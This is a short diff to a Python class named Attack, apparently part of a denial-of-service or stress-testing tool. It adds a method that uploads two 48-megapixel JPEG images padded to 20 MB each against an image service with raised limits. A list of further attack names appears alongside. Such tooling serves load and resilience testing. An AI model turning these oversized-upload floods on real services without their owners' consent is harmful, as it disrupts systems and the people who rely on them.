@@ -309,6 +309,13 @@ class Attack:
 
         self.run(body, connections=48)
 
+    def raised(self) -> None:
+        """48 megapixels in files of 20 MB, which a service takes whose limits are raised."""
+        self.post(*(
+            picture + bytes(20_000_000 - len(picture))
+            for picture in (baseline(8000, 6000), progressive(8000, 6000))
+        ), head=POST.replace(b"image/png", b"image/jpeg"))  # fmt: skip
+
 
 NAMES = ["endless", "detours", "heavy", "interlaced", "largest", "rectangles", "processes", "crowds",
          "hammer", "movements", "metrics", "levels", "burst", "announced", "dribbled", "heads", "strangers", "attempts",
